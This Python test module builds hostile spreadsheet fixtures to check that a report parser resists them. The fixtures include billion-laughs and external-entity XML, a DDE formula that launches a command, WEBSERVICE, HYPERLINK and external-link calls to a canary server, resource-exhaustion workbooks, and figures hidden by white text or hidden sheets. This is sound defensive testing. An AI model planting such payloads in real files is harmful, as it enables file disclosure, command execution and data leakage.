"""Workbooks: entities, amplification, formulas, and figures that are not shown."""

from __future__ import annotations

import io
import re
import struct

import openpyxl
import xlwt
from openpyxl.styles import Font, PatternFill

from tests.hostile.case import CANARY_FILE, CANARY_SERVER, SECRET, UNREADABLE, WHOLE, Hostile, Row
from tests.hostile.office import DECLARES
from tests.unit.documents.sample_report import BLOCKS, as_xlsx, places
from tests.unit.documents.test_docx import BILLION_LAUGHS, OUTSIDE, repacked
from tests.unit.documents.test_xlsx import filled_with

_SHEET = "xl/worksheets/sheet1.xml"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_FIRST = "app.new_received[natural_person]"
_TOTAL = "app.new_received[total]"


def _parts(**changes: bytes) -> bytes:
    names = {"sheet": _SHEET, "strings": "xl/sharedStrings.xml", "styles": "xl/styles.xml", "book": "xl/workbook.xml"}
    wanted = {names[name]: data for name, data in changes.items()}
    return repacked(as_xlsx(), wanted.get)


def _sheet(rows: bytes, head: bytes = b"", tail: bytes = b"") -> bytes:
    return b'<worksheet xmlns="%s">%s<sheetData>%s</sheetData>%s</worksheet>' % (_MAIN.encode(), head, rows, tail)


def _changed(pattern: bytes, replacement: bytes, part: str = _SHEET) -> bytes:
    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        data, count = re.subn(pattern, replacement, data, count=1, flags=re.DOTALL)
        assert count == 1, (name, data)
        return data

    return repacked(as_xlsx(), change)


def _first_value(cell: bytes) -> bytes:
    """The sample report with the cell that prints 20 replaced by what is given; `%R` are its place and style."""
    return _changed(rb'<c (r="D\d+" s="\d+")><v>20</v></c>', cell.replace(b"%R", rb"\1"))


def _edited(edit) -> bytes:  # type: ignore[no-untyped-def]
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx()))
    edit(book, book.active)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _cell(sheet, value: int):  # type: ignore[no-untyped-def]
    return next(cell for row in sheet.iter_rows() for cell in row if cell.value == value)


def _white(book, sheet) -> None:  # type: ignore[no-untyped-def]
    _cell(sheet, 20).font = Font(color="FFFFFFFF")


def _white_on_dark(book, sheet) -> None:  # type: ignore[no-untyped-def]
    _cell(sheet, 20).font = Font(color="FFFFFFFF")
    _cell(sheet, 20).fill = PatternFill("solid", fgColor="FF1F3864")


def _no_format(book, sheet) -> None:  # type: ignore[no-untyped-def]
    _cell(sheet, 20).number_format = ";;;"


def _hidden_sheets(book, sheet) -> None:  # type: ignore[no-untyped-def]
    for number, state in enumerate(("hidden", "veryHidden")):
        other = book.copy_worksheet(sheet)
        other.title = f"旧{number}"
        _cell(other, 20).value = 99
        other.sheet_state = state
    book.move_sheet(sheet, 2)


def _all_hidden() -> bytes:
    return _changed(rb'(<sheet name="[^"]*")', rb'\1 state="hidden"', "xl/workbook.xml")


def _flat() -> bytes:
    """A column of no width and a row of no height, each with a figure that nobody sees, beside and below the report."""
    cell = rb'(<c r="D(\d+)" s="\d+"><v>20</v></c>.*?)(</row>)'
    data = _changed(cell, rb'\1<c r="Z\2"><v>77</v></c>\3')
    flat = b'<row r="900" ht="0" customHeight="1"><c r="A900"><v>78</v></c></row>'
    columns = b'<cols><col min="26" max="26" width="0" customWidth="1"/></cols>'

    def change(name: str, part: bytes) -> bytes:
        if name != _SHEET:
            return part
        return part.replace(b"<sheetData>", columns + b"<sheetData>").replace(b"</sheetData>", flat + b"</sheetData>")

    return repacked(data, change)


def _recalculated(value: bytes) -> bytes:
    """A workbook whose formulas are to be computed when it is opened, with what its writer left in the cell."""
    data = _first_value(b"<c %R><f>SUM(A1:A3)</f><v>" + value + b"</v></c>")
    return repacked(
        data,
        lambda name, part: (
            re.sub(rb"<calcPr[^>]*>", b'<calcPr calcId="0" fullCalcOnLoad="1"/>', part)
            if name == "xl/workbook.xml"
            else part
        ),
    )


def _long_string(characters: int, cells: int) -> bytes:
    strings = b'<sst xmlns="%s"><si><t>%s</t></si></sst>' % (_MAIN.encode(), b"1" * characters)
    rows = b"".join(b"<row>" + b'<c t="s"><v>0</v></c>' * 100 + b"</row>" for _ in range(cells // 100))
    return _parts(strings=strings, sheet=_sheet(rows))


def _long_format(characters: int, cells: int) -> bytes:
    styles = (
        b'<styleSheet xmlns="%s"><numFmts><numFmt numFmtId="200" formatCode="&quot;%s&quot;0"/></numFmts>'
        b'<cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>' % (_MAIN.encode(), b"x" * characters)
    )
    rows = b"".join(
        b"<row>" + b"".join(b'<c s="0"><v>%d</v></c>' % (row * 100 + n) for n in range(100)) + b"</row>"
        for row in range(cells // 100)
    )
    return _parts(styles=styles, sheet=_sheet(rows))


def _columns(count: int) -> bytes:
    columns = b"".join(b'<col min="%d" max="16384" hidden="1"/>' % (number % 16_000 + 20) for number in range(count))
    return _changed(rb"(<sheetData>)", b"<cols>" + columns + rb"</cols>\1")


def _merged(count: int) -> bytes:
    cells = b"".join(b'<mergeCell ref="A1:XFD1048576"/>' for _ in range(count))
    return _changed(rb"<mergeCells.*</mergeCells>", b"<mergeCells>" + cells + b"</mergeCells>")


def _linked() -> bytes:
    """A formula of another workbook, and relations to a file and a server."""
    data = _first_value(b"<c %R><f>'[1]Sheet'!A1</f><v>20</v></c>")
    relations = (
        '<Relationship Id="rId99" Type="x/externalLink" Target="externalLinks/externalLink1.xml"/>'
        f'<Relationship Id="rId98" Type="x/connections" Target="{CANARY_SERVER}/c" TargetMode="External"/>'
        f'<Relationship Id="rId97" Type="x/externalLinkPath" Target="file://{CANARY_FILE}" TargetMode="External"/>'
    )
    return repacked(
        data,
        lambda name, part: (
            part.replace(b"</Relationships>", relations.encode() + b"</Relationships>")
            if name == "xl/_rels/workbook.xml.rels"
            else part
        ),
    )


def _old(fill) -> bytes:  # type: ignore[no-untyped-def]
    """The sample report as an XLS file; `fill` gives the value and the style of a cell."""
    book = xlwt.Workbook()
    sheet = book.add_sheet("报告")
    style = xlwt.easyxf("borders: left thin, right thin, top thin, bottom thin")
    top = 0
    for block in BLOCKS:
        if isinstance(block, str):
            sheet.write(top, 0, block)
            top += 2
            continue
        for row, column, cell in places(block):
            value = float(cell.text) if cell.text.replace(".", "").isdigit() else cell.text
            value, own = fill(value, style)
            sheet.write_merge(top + row, top + row + cell.rows - 1, column, column + cell.columns - 1, value, own)
        top += len(block) + 1
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _old_white(value, style):  # type: ignore[no-untyped-def]
    white = xlwt.easyxf("font: color white; borders: left thin, right thin, top thin, bottom thin")
    return value, white if value == 20 else style


def _old_formula(value, style):  # type: ignore[no-untyped-def]
    return (xlwt.Formula("SUM(A1:A3)") if value == 20 else value), style


def _old_locked() -> bytes:
    """A workbook with the record that says it is encrypted, in the place of the one behind its first."""
    data = bytearray(_old(lambda value, style: (value, style)))
    start = data.index(struct.pack("<HHHH", 0x809, 16, 0x600, 5))
    struct.pack_into("<H", data, start + 20, 0x2F)
    return bytes(data)


def _old_looping() -> bytes:
    """The sectors of the workbook's stream lead back to its first one."""
    data = bytearray(_old(lambda value, style: (value, style)))
    (fat_sector,) = struct.unpack_from("<L", data, 76)
    place = 512 + fat_sector * 512
    chain = [struct.unpack_from("<L", data, place + 4 * number)[0] for number in range(128)]
    last = next(number for number, following in enumerate(chain) if following == 0xFFFFFFFE and number > 3)
    struct.pack_into("<L", data, place + 4 * last, 0)
    return bytes(data)


SPREADSHEETS = (
    Hostile("laughs.xlsx", lambda: _parts(strings=BILLION_LAUGHS), DECLARES),
    Hostile(
        "entity-of-a-file.xlsx",
        lambda: _parts(sheet=OUTSIDE.replace(b"/etc/hostname", CANARY_FILE.encode())),
        DECLARES,
        absent=(SECRET,),
    ),
    Hostile(
        "many-cells.xlsx", lambda: filled_with(b"<c><v>1</v></c>", 310_000), Row(UNREADABLE, "more than 300000 cells")
    ),
    Hostile("long-string.xlsx", lambda: _long_string(1_000_000, 100_000), Row(UNREADABLE, "characters")),
    Hostile("long-format.xlsx", lambda: _long_format(100_000, 50_000), Row("not_a_report")),
    Hostile("many-columns.xlsx", lambda: _columns(100_000), values=WHOLE),
    Hostile("many-merges.xlsx", lambda: _merged(50_000), Row(UNREADABLE, "merges")),
    Hostile(
        "far-cell.xlsx",
        lambda: _changed(rb"(</sheetData>)", rb'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>\1'),
        values=WHOLE,
    ),
    Hostile("linked.xlsx", _linked, values=WHOLE, absent=(SECRET,)),
    Hostile(
        "command.xlsx",
        lambda: _first_value(b"<c %R><f>cmd|' /C calc'!A0</f><v>20</v></c>"),
        values=WHOLE,
    ),
    Hostile(
        "web-service.xlsx",
        lambda: _first_value(b'<c %R t="str"><f>WEBSERVICE("' + CANARY_SERVER.encode() + b'/x")</f><v>20</v></c>'),
        values=WHOLE,
    ),
    Hostile(
        "hyperlink.xlsx",
        lambda: _first_value(b'<c %R t="str"><f>HYPERLINK("' + CANARY_SERVER.encode() + b'","20")</f><v>20</v></c>'),
        values=WHOLE,
    ),
    Hostile(
        "formula-without-value.xlsx",
        lambda: _first_value(b"<c %R><f>SUM(A1:A3)</f></c>"),
        values={**WHOLE, _FIRST: "unreadable"},
    ),
    Hostile("formula-not-computed.xlsx", lambda: _recalculated(b"0"), values={**WHOLE, _FIRST: "unreadable"}),
    Hostile("formula-to-compute-again.xlsx", lambda: _recalculated(b"20"), values=WHOLE),
    Hostile(
        "error.xlsx", lambda: _first_value(b'<c %R t="e"><v>#REF!</v></c>'), values={**WHOLE, _FIRST: "unreadable"}
    ),
    Hostile(
        "huge-number.xlsx",
        lambda: _first_value(b"<c %R><v>1e999999</v></c>"),
        values={**WHOLE, _FIRST: "unreadable"},
    ),
    Hostile("no-number.xlsx", lambda: _first_value(b"<c %R><v>NaN</v></c>"), values={**WHOLE, _FIRST: "unreadable"}),
    Hostile("white.xlsx", lambda: _edited(_white), values={**WHOLE, _FIRST: "blank"}),
    Hostile("white-on-dark.xlsx", lambda: _edited(_white_on_dark), values=WHOLE),
    Hostile("unprinted.xlsx", lambda: _edited(_no_format), values={**WHOLE, _FIRST: "blank"}),
    Hostile("hidden-sheets.xlsx", lambda: _edited(_hidden_sheets), values=WHOLE),
    Hostile("all-hidden.xlsx", _all_hidden, Row(UNREADABLE, "hidden")),
    Hostile("no-width.xlsx", _flat, values=WHOLE, absent=("77", "78")),
    Hostile("cut.xlsx", lambda: as_xlsx()[:4_000], Row(UNREADABLE, "broken")),
    Hostile("white.xls", lambda: _old(_old_white), values={**WHOLE, _FIRST: "blank"}),
    Hostile("formula.xls", lambda: _old(_old_formula), values={**WHOLE, _FIRST: "blank"}),
    Hostile("locked.xls", _old_locked, Row(UNREADABLE, "locked with a password")),
    Hostile("looping.xls", _old_looping, Row(UNREADABLE, "broken")),
    Hostile("cut.xls", lambda: _old(lambda value, style: (value, style))[:6_000], Row(UNREADABLE, "broken")),
)
